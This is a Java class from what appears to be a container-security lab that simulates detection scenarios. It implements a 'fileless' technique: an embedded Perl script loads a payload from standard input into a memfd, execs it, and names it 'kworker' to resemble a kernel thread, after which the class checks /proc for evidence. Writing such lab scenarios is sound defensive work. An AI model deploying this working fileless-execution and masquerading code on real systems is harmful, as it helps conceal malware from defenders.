package dev.vigil.lab.attack;

/**
 * {@code fileless}: a program that never touches a disk. perl (dropped into the container when
 * the image lacks it) calls {@code memfd_create(2)}, copies the payload it reads from standard
 * input into the memory file, forks, and execs {@code /proc/self/fd/N}. The effect:
 * {@code /proc/<pid>/exe} of the process names the memfd ({@code /memfd:NAME (deleted)}).
 */
final class Fileless implements Technique {

    /** The memfd's name, as {@code /proc/<pid>/exe} shows it. */
    static final String NAME = "kworker";
    /** {@code memfd_create}'s system call number on x86-64. */
    static final int MEMFD_CREATE_X86_64 = 319;

    /** perl: memfd_create, copy stdin into it, fork, exec it; prints the child's pid. */
    static final String SCRIPT = """
            $^F = 1024;
            my $fd = syscall(%d, my $name = "%s", 0);
            die "memfd_create: $!\\n" if $fd < 0;
            open(my $mem, ">&=", $fd) or die "fdopen: $!\\n";
            binmode STDIN;
            my $buf;
            while (my $n = sysread(STDIN, $buf, 65536)) {
                syswrite($mem, $buf) == $n or die "write: $!\\n";
            }
            my $pid = fork() // die "fork: $!\\n";
            if ($pid == 0) {
                open(STDOUT, ">", "/dev/null");
                open(STDERR, ">&", \\*STDOUT);
                exec { "/proc/self/fd/$fd" } $name, "%d" or die "exec: $!\\n";
            }
            print "$pid\\n";
            """;

    @Override
    public void perform(AttackRun run) throws Exception {
        String arch = System.getProperty("os.arch");
        run.check(arch.equals("amd64") || arch.equals("x86_64"), "the fileless scenario calls memfd_create by its x86-64 number;"
                + " this machine is " + arch);
        Source from = run.source();
        String perl = run.toolkit().ensure(from, "perl");
        AttackRun.Ran loaded = run.command(from, perl, "-e", SCRIPT.formatted(MEMFD_CREATE_X86_64, NAME, Payload.LIFETIME_SECONDS))
                .input(Payload.bytes())
                .run("load " + Payload.BINARY + " into a memfd and execute it (perl: memfd_create, fork, exec /proc/self/fd/N)");
        long pid = Payload.hostPid(run, from, loaded, "the memfd program");
        String exe = ContainerProcesses.exe(pid);
        run.check(exe.startsWith("/memfd:" + NAME), "/proc/" + pid + "/exe is " + exe + ", not a memfd");
        run.evidence("host pid " + pid + ": /proc/" + pid + "/exe -> " + exe);
    }
}
